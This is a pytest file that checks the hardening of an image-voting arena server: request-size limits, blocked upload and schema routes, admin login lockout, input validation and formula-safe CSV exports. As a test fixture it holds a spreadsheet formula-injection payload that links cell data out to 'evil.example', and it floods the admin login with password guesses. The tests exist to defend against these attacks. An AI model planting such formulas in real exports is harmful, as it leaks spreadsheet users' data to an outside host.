"""Server hardening, against the real server over real HTTP: request-size cap (memory of
the server process), refused upload routes, hidden schema routes, admin login lockout,
odd decision_ms values; and formula-safe CSV exports, bounded echoes of client input,
the Leaderboard of a date window holding one vote."""

from __future__ import annotations

import io
import json
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from pathlib import Path

import httpx
import numpy as np
import pandas as pd
import pytest
from gradio_client.exceptions import AppError
from sqlalchemy import func, select

from arena import cli
from arena.config import load_settings
from arena.reports.export import export_workspace, read_table, write_table
from arena.reports.leaderboard import LeaderboardService
from arena.storage import db
from arena.storage.store import PromptRow
from arena.storage.table_io import write_csv
from arena.ui import leaderboard_tab
from arena.ui.filter_row import UNFILTERED
from arena.voting.battles import BattleError, RaterIdentity, record_vote, serve_battle
from arena.voting.matchmaking import BalancedPolicy, Matchmaker
from tests.arena_app import event_of, queue_call, running_app
from tests.arena_fixtures import _picture, build_fixture
from tests.arena_process import ServerProcess, build_workspace, connect

SECRET = "hardening admin secret"
ATTEMPTS, LOCKOUT_S = 5, 6
ODD_DECISIONS = [float("nan"), float("inf"), float("-inf"), True, False, "1500", [1], {"ms": 1}]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """``arena serve`` in its own process, with an admin secret and a short login lockout."""
    root = tmp_path_factory.mktemp("hardening")
    build_workspace(root / "ws", n_prompts=4)
    env = {
        "ARENA_ADMIN_SECRET": SECRET,
        "ARENA_ADMIN_LOGIN_ATTEMPTS": str(ATTEMPTS),
        "ARENA_ADMIN_LOCKOUT_SECONDS": str(LOCKOUT_S),
    }
    with ServerProcess(root / "ws", env=env, log=root / "server.log") as proc:
        yield proc


def rss_mb(pid: int) -> float:
    """Resident memory of a process, from /proc (MiB)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmRSS for process {pid}")


def _post_big(http: httpx.Client, body: bytes, chunked: bool) -> int:
    """POST ``body`` as a battle call; with ``chunked`` streamed without a Content-Length."""
    headers = {"content-type": "application/json"}
    if chunked:
        content = (body[i : i + 2**20] for i in range(0, len(body), 2**20))
    else:
        content = body
    try:
        return http.post("gradio_api/call/battle", content=content, headers=headers).status_code
    except httpx.TransportError:  # the server may close before reading the rest
        return 413


def test_big_bodies_are_refused_and_leave_no_memory_behind(server):
    body = json.dumps({"data": ["r" * (10 * 2**20)]}).encode()
    with httpx.Client(base_url=server.url, timeout=120) as http:
        for _ in range(2):  # warm up both paths before measuring
            http.post("gradio_api/call/battle", json={"data": ["warm-up-rater"]})
            _post_big(http, body, chunked=False)
        before = rss_mb(server.proc.pid)
        statuses = [_post_big(http, body, chunked=k % 2 == 1) for k in range(20)]
        after = rss_mb(server.proc.pid)
        declared = http.post("gradio_api/call/battle", content=body[: 2**17])
        assert declared.status_code == 413 and "max_request_bytes" in declared.text
    assert statuses == [413] * 20
    assert after - before < 50, (before, after)
    assert server.log_path.stat().st_size < 2**20  # no request body echoed into the log


def test_upload_routes_are_refused(server):
    png = ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "image/png")
    with httpx.Client(base_url=server.url, timeout=30) as http:
        for path in (
            "gradio_api/upload",
            "gradio_api/upload?upload_id=abc",
            "upload",
            "admin/gradio_api/upload",
            server.url + "/gradio_api/upload",  # a doubled slash (a relative "//x" is a host)
            "gradio_api/process_recording",
        ):
            r = http.post(path, files={"files": png})
            assert r.status_code == 403, (path, r.status_code, r.text)
        assert http.get("gradio_api/upload_progress?upload_id=abc").status_code == 403


def test_schema_routes_are_hidden_and_the_client_still_works(server):
    with httpx.Client(base_url=server.url, timeout=30) as http:
        for path in (
            "openapi.json",
            server.url + "/openapi.json",
            "docs",
            "redoc",
            "gradio_api/openapi.json",
            "gradio_api/docs",
            "admin/openapi.json",
            "admin/gradio_api/openapi.json",
        ):
            r = http.get(path)
            assert r.status_code == 404, (path, r.status_code)
            assert "paths" not in r.text
        # kept: the page and gradio_client need these; info lists the public API only
        assert http.get("config").status_code == 200
        info = http.get("gradio_api/info").json()
        assert set(info["named_endpoints"]) == {"/rater", "/battle", "/vote"}
    client = connect(server.url)
    rater = client.predict(api_name="/rater")["rater_id"]
    assert set(client.predict(rater, api_name="/battle")) >= {"token", "left_image"}


def _login(http: httpx.Client, password: str) -> httpx.Response:
    return http.post("admin/login", data={"username": "admin", "password": password})


def test_admin_login_locks_out_an_address_after_failures(server):
    with httpx.Client(base_url=server.url, timeout=30) as http:
        # successful logins are not counted
        assert [_login(http, SECRET).status_code for _ in range(2 * ATTEMPTS)] == [200] * (
            2 * ATTEMPTS
        )
        # 100 wrong passwords, 10 at a time: only ATTEMPTS are even tried
        t0 = time.monotonic()
        with ThreadPoolExecutor(10) as pool:
            statuses = list(pool.map(lambda k: _login(http, f"guess-{k}").status_code, range(100)))
        windows = 1 + int((time.monotonic() - t0) // LOCKOUT_S)
        locked = _login(http, SECRET)
    assert set(statuses) <= {400, 429}
    assert ATTEMPTS <= statuses.count(400) <= ATTEMPTS * windows, statuses
    assert locked.status_code == 429, locked.text
    assert "too many failed logins" in locked.json()["detail"]
    wait = int(locked.headers["retry-after"])
    assert 1 <= wait <= LOCKOUT_S
    time.sleep(wait + 0.5)
    with httpx.Client(base_url=server.url, timeout=30) as http:
        assert _login(http, SECRET).status_code == 200
        assert http.get("admin/config").status_code == 200


def test_odd_decision_ms_is_refused_through_the_api(server):
    client = connect(server.url)
    rater = client.predict(api_name="/rater")["rater_id"]
    battle = client.predict(rater, api_name="/battle")
    for value in (True, False, "1500", [1], {"ms": 1}, -1):
        with pytest.raises(AppError) as info:
            client.predict(battle["token"], rater, "left", value, api_name="/vote")
        message = str(info.value)
        assert message.startswith("bad_decision_ms") and "expected" in message, message
    # NaN and the infinities are not JSON: gradio_client (httpx) refuses to send them,
    # Python's json module on the server reads them; a raw request gets them through.
    with httpx.Client(base_url=server.url, timeout=30) as http:
        for literal in ("NaN", "Infinity", "-Infinity", "1e999"):
            args = [json.dumps(battle["token"]), json.dumps(rater), '"left"', literal]
            joined = http.post(
                "gradio_api/call/vote",
                content=f'{{"data": [{", ".join(args)}]}}',
                headers={"content-type": "application/json"},
            )
            assert joined.status_code == 200, joined.text
            events = http.get(f"gradio_api/call/vote/{joined.json()['event_id']}").text
            assert "event: error" in events and "bad_decision_ms" in events, (literal, events)
    receipt = client.predict(battle["token"], rater, "left", 2500, api_name="/vote")
    assert receipt["stored"] is True  # the refusals wrote nothing: the battle was still open


# -- the domain ---------------------------------------------------------------------------
@pytest.fixture
def arena(store):
    build_fixture(store, n_prompts=3, seeds=1, size=16)
    return store, Matchmaker(store, BalancedPolicy(), np.random.default_rng(0))


def _votes(store) -> int:
    with store.session() as s:
        return s.scalar(select(func.count(db.Vote.id)))


@pytest.mark.parametrize("value", ODD_DECISIONS, ids=repr)
def test_record_vote_refuses_odd_decision_ms(arena, value):
    store, mm = arena
    view = serve_battle(store, "domain-rater-01", mm)
    with pytest.raises(BattleError) as info:
        record_vote(store, view.token, "domain-rater-01", "left", value, matchmaker=mm)
    assert info.value.reason == "bad_decision_ms"
    assert "decision_ms" in str(info.value) and "expected" in str(info.value)
    assert _votes(store) == 0


@pytest.mark.parametrize("value", [0, 2400, 2400.7, None])
def test_record_vote_takes_numbers_and_none(arena, value):
    store, mm = arena
    view = serve_battle(store, "domain-rater-01", mm)
    now = view.served_at + timedelta(seconds=5)
    receipt = record_vote(store, view.token, "domain-rater-01", "left", value, now=now)
    assert receipt.decision_ms == (5000 if value is None else int(value))


def test_refusals_quote_a_bounded_part_of_the_input(arena):
    store, mm = arena
    huge = "=" + "x" * 2_000_000
    view = serve_battle(store, "domain-rater-01", mm)
    refusals = []
    for call in (
        lambda: RaterIdentity(huge),
        lambda: record_vote(store, view.token, "domain-rater-01", huge),
        lambda: record_vote(store, view.token, "domain-rater-01", "left", [huge] * 1000),
        lambda: record_vote(store, view.token, "domain-rater-01", "left", huge),
    ):
        with pytest.raises(BattleError) as info:
            call()
        refusals.append(str(info.value))
    assert all(len(message) < 400 for message in refusals), [len(m) for m in refusals]
    assert all("…" in message for message in refusals)


# -- exports ------------------------------------------------------------------------------
FORMULA_MODELS = ("=2+3", "@SUM(A1)", "plain-model")
FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


@pytest.fixture
def formula_store(store):
    """Models, a prompt, its id, category and set, all starting with a formula character."""
    store.add_prompts(
        [PromptRow(FORMULA_PROMPT, "-p1", "+tag", "+category"), PromptRow("a calm lake", "p2")],
        prompt_set="@set",
    )
    with store.session() as s:
        prompt_ids = [p.id for p in s.query(db.Prompt)]
    rng = np.random.default_rng(0)
    for name in FORMULA_MODELS:
        mid = store.add_model(name, "import")
        for pid in prompt_ids:
            for seed in (0, 1):
                stored = store.images.put_image(_picture(rng, 16, name))
                store.add_image(mid, pid, stored, seed=seed)
    mm = Matchmaker(store, BalancedPolicy(), np.random.default_rng(1))
    for k in range(12):
        view = serve_battle(store, "-rater-000001", mm)
        record_vote(store, view.token, "-rater-000001", ("left", "right", "tie")[k % 3], 2500)
    return store


def test_csv_export_neutralises_formulas_parquet_and_json_keep_them(formula_store, tmp_path):
    for fmt in ("csv", "parquet", "json"):
        export_workspace(formula_store, tmp_path / fmt, fmt=fmt, rounds=10, seed=1, report=False)
    csv_text = (tmp_path / "csv" / "votes.csv").read_text()
    for neutralised in ("'=2+3", "'@SUM(A1)", "'-p1", "'+tag", "'+category", "'@set"):
        assert neutralised in csv_text, neutralised
    assert '"\'=HYPERLINK(""http://evil.example/' in csv_text
    # no cell of any CSV table starts a formula, except numbers (a negative number)
    for path in (tmp_path / "csv").glob("*.csv"):
        cells = pd.read_csv(path, dtype=str, keep_default_na=False).to_numpy().ravel()
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # raises for text
    assert "'=2+3" in (tmp_path / "csv" / "leaderboard.csv").read_text()
    # parquet and json keep the raw values; the CSV reads back raw too
    for fmt in ("csv", "parquet", "json"):
        votes = read_table(tmp_path / fmt / f"votes.{fmt}")
        assert set(votes["left_model"]) | set(votes["right_model"]) == set(FORMULA_MODELS)
        assert set(votes["prompt_text"]) <= {FORMULA_PROMPT, "a calm lake"}
        assert FORMULA_PROMPT in set(votes["prompt_text"])
        assert set(votes["prompt_set"]) == {"@set"}
        assert "-p1" in set(votes["prompt_external_id"].astype(str))
    assert '"=2+3"' in (tmp_path / "json" / "votes.json").read_text()


def test_cli_leaderboard_csv_neutralises_model_names(formula_store, capsys):
    ws = str(formula_store.settings.workspace_path)
    assert cli.main(["-w", ws, "leaderboard", "--bootstrap", "10", "--format", "csv"]) == 0
    models = [line.split(",")[1] for line in capsys.readouterr().out.splitlines()[1:]]
    assert sorted(models) == ["'=2+3", "'@SUM(A1)", "plain-model"]


def test_csv_numbers_are_not_touched_and_text_reads_back(tmp_path):
    frame = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "-5", "'=x", "''", "'plain", "plain", "\tx", None]),
            "negative": [-1.5, -2.0, 0.0, 1.0, -3.25, 4.0, -0.5, None],
            "count": np.arange(8) - 4,
        }
    )
    write_table(frame, tmp_path, "t", "csv")
    lines = (tmp_path / "t.csv").read_text().splitlines()
    assert lines[1] == "'=1+1,-1.5,-4" and lines[2] == "'-5,-2,-3"
    assert lines[3] == "''=x,0,-2" and lines[4] == "''',1,-1" and lines[5] == "'plain,-3.25,0"
    back = read_table(tmp_path / "t.csv")
    assert back["text"].tolist()[:7] == frame["text"].tolist()[:7]
    assert back["negative"].tolist()[:7] == frame["negative"].tolist()[:7]
    # a frame pandas writes (one column) is neutralised the same way
    write_csv(frame[["text"]], tmp_path / "one.csv", "%.10g")
    assert (tmp_path / "one.csv").read_text().splitlines()[1:3] == ["'=1+1", "'-5"]


# -- the Leaderboard of a window holding one vote -------------------------------------------
T0 = datetime(2025, 3, 1, 12, 0, 0)


def _dated_votes(store, days: list[int]) -> None:
    mm = Matchmaker(store, BalancedPolicy(), np.random.default_rng(2))
    for day in days:
        served = T0 + timedelta(days=day)
        view = serve_battle(store, "dated-rater-01", mm, now=served)
        record_vote(store, view.token, "dated-rater-01", "left", 3000, now=served)


def test_leaderboard_of_a_one_vote_window(arena):
    store, _mm = arena
    _dated_votes(store, [0, 1, 1, 2])
    service = LeaderboardService(store.with_settings(bootstrap_rounds=50))
    summary, table, ratings_fig, heatmap_fig = leaderboard_tab.board_outputs(
        service, since="2025-03-01", until="2025-03-01"
    )
    assert "**1** votes" in summary and len(table) == 2
    for fig in (ratings_fig, heatmap_fig):
        fig.savefig(io.BytesIO(), format="png")
    frame = leaderboard_tab.display_table  # the table holds numbers, not NaN text
    assert "nan" not in frame(service.get().frame).to_string().lower()


def test_leaderboard_tab_of_a_one_vote_window_over_http(arena):
    store, _mm = arena
    _dated_votes(store, [0, 1, 2])
    revealed = store.with_settings(reveal_models=True, bootstrap_rounds=50)
    with (
        running_app(revealed, tabs=("arena.ui.leaderboard_tab",)) as url,
        httpx.Client(base_url=url, timeout=60) as http,
    ):
        fn, dep = event_of(http.get("config").json(), "From (UTC date)", 6)
        data = [*UNFILTERED[:5], "2025-03-02", "2025-03-02"]
        # the rating method is server-side state on the raters' app (no row to pick it)
        assert len(dep["inputs"]) == len(data) + 4
        output = queue_call(http, fn, data + [None] * 4)
    revealed.close()
    summary, _table, plot, _heatmap, _style, _flips = output
    assert "**1** votes" in str(summary) and plot is not None


def test_hardening_settings_and_their_defaults():
    settings = load_settings(env={})
    assert settings.max_request_bytes == 65536
    assert (settings.admin_login_attempts, settings.admin_lockout_seconds) == (10, 900)
    env = {"ARENA_MAX_REQUEST_BYTES": "1024", "ARENA_ADMIN_LOCKOUT_SECONDS": "60"}
    assert load_settings(env=env).max_request_bytes == 1024
    assert load_settings(env=env).admin_lockout_seconds == 60
